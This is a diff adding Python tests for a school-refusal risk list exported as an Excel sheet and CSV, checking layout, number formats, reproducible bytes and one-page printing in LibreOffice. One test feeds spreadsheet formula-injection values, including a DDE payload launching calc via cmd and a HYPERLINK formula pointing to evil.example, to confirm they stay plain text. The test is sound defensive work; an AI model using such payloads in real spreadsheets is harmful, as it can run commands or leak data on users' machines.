@@ -1,11 +1,17 @@
 from __future__ import annotations
 
 import datetime as dt
+import subprocess
+from pathlib import Path
 
+import openpyxl
 import polars as pl
+from openpyxl.worksheet.worksheet import Worksheet
 
-from models.reasons import Reason
-from pipelines.render.reports import About, render_html
+from features.catalog import CATALOG
+from models.reasons import Reason, sentence
+from pipelines.render.reports import TEXT, About, render_html, write_care_list
+from tests.tools import required
 
 LISTED = pl.DataFrame(
     {
@@ -55,3 +61,205 @@ def test_the_page_names_the_model_and_the_weeks_failed_data_gates_above_the_list
         and "Made by schoolpoort-risk v1 (rule_mzl)." in rule
     )
     assert "trained on data" not in rule and "Let op" not in rule
+
+
+# --- The list as files: a sheet and a CSV that a care team opens in Excel or LibreOffice ---
+
+
+def a_list(n: int) -> pl.DataFrame:
+    """A school's list of ``n`` pupils with three reasons each, as the scores table has it;
+    the reasons are the catalog's own sentences, long ones and short ones."""
+    sentences = [sentence(f.name, 0.4, 0.05, "nl") for f in CATALOG if f.unit != "yes/no"]
+    return pl.DataFrame(
+        {
+            "rank": list(range(1, n + 1)),
+            "student_id": [f"L{1000 + i}" for i in range(n)],
+            "student_key": [f"k{i}" for i in range(n)],
+            "class_key": [f"{1 + i % 6}{'ABC'[i % 3]}" for i in range(n)],
+            "risk": [round(0.62 - 0.02 * i, 6) for i in range(n)],
+            "change": [("new", "up", "down", "same")[i % 4] for i in range(n)],
+            "profile": [("refusal-like", "unclear", "illness-like")[i % 3] for i in range(n)],
+            **{
+                f"signal_{j}": [sentences[(3 * i + j) % len(sentences)] for i in range(n)]
+                for j in (1, 2, 3)
+            },
+        },
+        schema={
+            "rank": pl.UInt32,
+            **dict.fromkeys(["student_id", "student_key", "class_key"], pl.String),
+            "risk": pl.Float64,
+            **dict.fromkeys(["change", "profile", "signal_1", "signal_2", "signal_3"], pl.String),
+        },
+    )
+
+
+ABOUT = About(horizon_weeks=8, model="schoolpoort-risk v3 (scorecard)", until=dt.date(2025, 3, 1))
+
+
+def written(tmp_path: Path, listed: pl.DataFrame, school: str = "SCH01") -> Path:
+    write_care_list(tmp_path, school, AS_OF, listed, {}, "nl", ABOUT)
+    return tmp_path
+
+
+def column_widths(sheet: Worksheet) -> list[float]:
+    """The width of columns A to I (openpyxl keeps a run of equal widths under its first letter)."""
+    widths: dict[int, float] = {}
+    for dim in sheet.column_dimensions.values():
+        for i in range(dim.min or 1, (dim.max or dim.min or 1) + 1):
+            widths[i] = dim.width
+    return [widths[i] for i in range(1, 10)]
+
+
+def header_row(sheet: Worksheet) -> int:
+    """The row (1-based) of the table's column names, below the title block."""
+    return next(r[0].row for r in sheet.iter_rows() if r[0].value == TEXT["nl"]["columns"][0])
+
+
+AS_OF = dt.date(2025, 3, 10)
+
+
+def test_the_sheet_opens_readable_with_a_title_and_kans_as_a_percentage(tmp_path: Path) -> None:
+    listed = a_list(25)
+    book = openpyxl.load_workbook(written(tmp_path, listed) / "risk_list.xlsx")
+    sheet = book.active
+    assert isinstance(sheet, Worksheet)
+    top = header_row(sheet)
+    assert sheet["A1"].value == "Signalenlijst schoolweigering — SCH01"
+    title = [sheet.cell(r, 1).value for r in range(1, top)]
+    assert "Week van 2025-03-10" in title
+    assert (
+        "Kans = geschatte kans dat binnen 8 weken een zorgdossier schoolweigering start." in title
+    )
+    assert any(
+        str(line).startswith("Gemaakt door schoolpoort-risk v3 (scorecard)") for line in title
+    )
+
+    headers = [str(c.value) for c in sheet[top]]
+    assert headers[3] == "Kans"
+    widths = column_widths(sheet)  # in characters, as Excel counts them
+    for name, width in zip(headers, widths, strict=True):
+        # a name wraps at its spaces; its longest word and the filter's arrow fit
+        assert max(map(len, name.split())) + 2 <= width <= 70, (name, width)
+    assert widths[1] >= max(map(len, listed["student_id"])) and widths[3] >= len("62.0%")
+    assert all(w >= 40 for w in widths[6:])  # a reason reads in two or three lines, not ten
+    assert all(sheet.cell(top + 1, i).alignment.wrap_text for i in (7, 8, 9))
+    heights = [sheet.row_dimensions[r].height for r in range(top + 1, top + 1 + listed.height)]
+    assert all(h is not None and 12 <= h <= 4 * 13 for h in heights)  # set, not left to luck
+
+    kans = [sheet.cell(r, 4) for r in range(top + 1, top + 1 + listed.height)]
+    assert [c.value for c in kans] == listed["risk"].to_list()  # the fraction itself
+    assert {c.number_format for c in kans} == {"0.0%"}
+
+    assert sheet.freeze_panes == f"A{top + 1}"
+    assert sheet.auto_filter.ref == f"A{top}:I{top + listed.height}"
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.page_setup.paperSize == 9  # A4
+    assert sheet.sheet_properties.pageSetUpPr is not None
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    # one page wide (1 is the file format's default, so the file leaves it out), any long
+    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
+    assert sheet.print_title_rows == f"${top}:${top}"  # the header row on every page
+
+
+def test_the_sheet_comes_out_the_same_bytes_every_time(tmp_path: Path) -> None:
+    sheets = [written(tmp_path / str(i), a_list(5)) / "risk_list.xlsx" for i in range(3)]
+    assert len({sheet.read_bytes() for sheet in sheets}) == 1
+
+
+def test_an_empty_list_still_opens_and_says_so(tmp_path: Path) -> None:
+    sheet = openpyxl.load_workbook(written(tmp_path, a_list(0)) / "risk_list.xlsx").active
+    assert isinstance(sheet, Worksheet)
+    assert TEXT["nl"]["empty"] in [sheet.cell(r, 1).value for r in range(1, header_row(sheet))]
+    assert all(w >= 4 for w in column_widths(sheet))
+
+
+def test_hostile_text_stays_text_in_the_sheet(tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?x","klik")'
+    listed = a_list(3).with_columns(
+        student_id=pl.lit(hyperlink),
+        class_key=pl.lit("+1A"),
+        signal_1=pl.lit("=1+1"),
+        signal_2=pl.lit("@SUM(A1:A9)"),
+        signal_3=pl.lit("-3"),
+    )
+    sheet = openpyxl.load_workbook(
+        written(tmp_path, listed, "=cmd|' /C calc'!A0") / "risk_list.xlsx"
+    ).active
+    assert isinstance(sheet, Worksheet)
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert sheet["A1"].value == "Signalenlijst schoolweigering — =cmd|' /C calc'!A0"
+    top = header_row(sheet)
+    rows = list(sheet.iter_rows(min_row=top + 1))
+    assert [r[1].value for r in rows] == [hyperlink] * 3
+    assert {(r[2].value, r[6].value, r[7].value, r[8].value) for r in rows} == {
+        ("+1A", "=1+1", "@SUM(A1:A9)", "-3")
+    }
+    assert all(r[i].data_type == "s" for r in rows for i in (1, 2, 6, 7, 8))
+
+
+def test_the_csv_has_decimal_commas_and_reads_back_the_same_numbers(tmp_path: Path) -> None:
+    listed = a_list(5).with_columns(
+        risk=pl.Series([0.189, 0.05, 0.1234, None, 0.0], dtype=pl.Float64)
+    )
+    path = written(tmp_path, listed) / "risk_list.csv"
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after this mark
+    assert "18,9" in raw.decode("utf-8-sig").splitlines()[1].split(";")
+    back = pl.read_csv(path, separator=";", decimal_comma=True)
+    assert back.columns[0] == "#"  # the mark is no part of the first column's name
+    assert back["Kans (%)"].dtype == pl.Float64
+    assert back["Kans (%)"].to_list() == [18.9, 5.0, 12.3, None, 0.0]
+    assert back["Signalen 1"].to_list() == listed["signal_1"].to_list()  # accents too
+
+
+def printed(path: Path, out: Path) -> tuple[int, str]:
+    """``path`` printed by LibreOffice to PDF: its page count and its text on one line, in
+    the order it is drawn (a wrapped cell's lines together)."""
+    subprocess.run(
+        [
+            required("libreoffice-calc-nogui", "soffice", "libreoffice"),
+            "--headless",
+            "--norestore",
+            f"-env:UserInstallation={(out / 'profile').as_uri()}",  # never a shared profile
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(out),
+            str(path),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    pdf = out / path.with_suffix(".pdf").name
+    info = subprocess.run(
+        [required("poppler-utils", "pdfinfo"), str(pdf)],
+        check=True,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    ).stdout
+    [pages] = [int(line.split()[-1]) for line in info.splitlines() if line.startswith("Pages:")]
+    text = subprocess.run(
+        [required("poppler-utils", "pdftotext"), "-raw", str(pdf), "-"],
+        check=True,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    ).stdout
+    return pages, " ".join(text.split())
+
+
+def test_a_list_of_25_pupils_prints_on_one_page_in_libreoffice(tmp_path: Path) -> None:
+    listed = a_list(25)
+    pages, text = printed(written(tmp_path / "list", listed) / "risk_list.xlsx", tmp_path)
+    assert pages == 1
+    assert "Signalenlijst schoolweigering — SCH01" in text
+    assert "Kans = geschatte kans dat binnen 8 weken" in text
+    first, last = listed.row(0, named=True), listed.row(-1, named=True)
+    for pupil in (first, last):
+        assert pupil["student_id"] in text
+        for j in (1, 2, 3):
+            assert pupil[f"signal_{j}"] in text, (pupil["rank"], j)
+    assert "62.0%" in text or "62,0%" in text  # the fraction, shown as a percentage
